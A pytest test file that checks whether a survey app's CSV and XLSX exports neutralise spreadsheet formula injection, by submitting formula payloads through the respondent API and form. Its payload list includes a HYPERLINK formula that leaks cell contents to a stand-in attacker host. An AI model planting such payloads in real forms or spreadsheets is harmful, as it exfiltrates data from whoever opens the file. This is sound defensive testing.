"""Survey and KPI exports: a respondent's answer never becomes a formula (issue 13).

Responses with formula payloads are submitted through the real respondent API and the
respondent's HTML form; the downloaded ``export.csv`` and ``export.xlsx`` are read back with
the csv module and openpyxl. Runs on SQLite and PostgreSQL (the ``app`` fixture).
"""

from __future__ import annotations

import csv
import io
import re

from fastapi import FastAPI
from openpyxl import load_workbook

from tests.web.web_helpers import Member, client_for

LIKERT = ("strategisches_ziel", "tagesgeschaeft", "marktposition", "eigenmotivation",
          "wettbewerbsdruck", "umsetzung", "wettbewerbsvorteil")  # fmt: skip
PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1,1)",
            "\t=1+1")  # fmt: skip
FREE_TEXT = "position_sonstiges"


def _survey_with_payloads(app: FastAPI, member: Member) -> str:
    member.org("net", kind="network")
    qid = member.questionnaire("net")
    api = f"/api/v1/orgs/net/questionnaires/{qid}"
    assert member.client.post(f"{api}/status", json={"status": "published"}).status_code == 200
    link = member.client.post(f"{api}/links", json={"kind": "anonymous"}).json()
    for payload in PAYLOADS:
        answers = dict.fromkeys(LIKERT, "4") | {FREE_TEXT: payload}
        done = client_for(app).post(
            f"/api/v1/respond/{link['token']}", json={"answers": answers, "submit": True}
        )
        assert done.status_code == 200 and done.json()["status"] == "submitted", done.text
    # and once through the respondent's HTML form
    browser = client_for(app)
    page = browser.get(f"/s/{link['token']}")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert page.status_code == 200 and token
    form = {f"q_{c}": "4" for c in LIKERT} | {
        f"q_{FREE_TEXT}": "=1+1",
        "csrf_token": token.group(1),
        "action": "submit",
    }
    assert browser.post(f"/s/{link['token']}", data=form).status_code < 400
    return api


def test_survey_csv_export_has_no_formula(app: FastAPI, member: Member) -> None:
    api = _survey_with_payloads(app, member)
    response = member.client.get(f"{api}/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == len(PAYLOADS) + 1
    texts = [r[FREE_TEXT] for r in rows]
    assert all(t.startswith("'") for t in texts), texts
    assert {t[1:].strip() for t in texts} == {p.strip() for p in (*PAYLOADS, "=1+1")}
    assert all(r["umsetzung"] == "4" for r in rows)  # numbers are not touched


def test_survey_xlsx_export_has_no_formula(app: FastAPI, member: Member) -> None:
    api = _survey_with_payloads(app, member)
    response = member.client.get(f"{api}/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["responses"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [c.value for c in sheet[1]]
    column = header.index(FREE_TEXT) + 1
    texts = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert len(texts) == len(PAYLOADS) + 1
    assert all(c.data_type == "s" and str(c.value).startswith("'") for c in texts)
    likert = sheet.cell(row=2, column=header.index("umsetzung") + 1)
    assert likert.value == 4 and likert.data_type == "n"  # numbers stay numbers


def test_kpis_csv_neutralises_text_and_keeps_numbers(app: FastAPI, member: Member) -> None:
    member.org("acme")
    assert member.upload_ledger("acme").status_code == 201  # type: ignore[attr-defined]
    response = member.client.get("/api/v1/orgs/acme/ledger/kpis.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    numbers = [r[c] for r in rows for c in ("total", "latest", "previous", "change") if r[c]]
    assert rows and numbers and all(isinstance(float(n), float) for n in numbers)
    for row in rows:
        for value in row.values():
            if value.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(value)  # only a number may start so (a negative change), unquoted
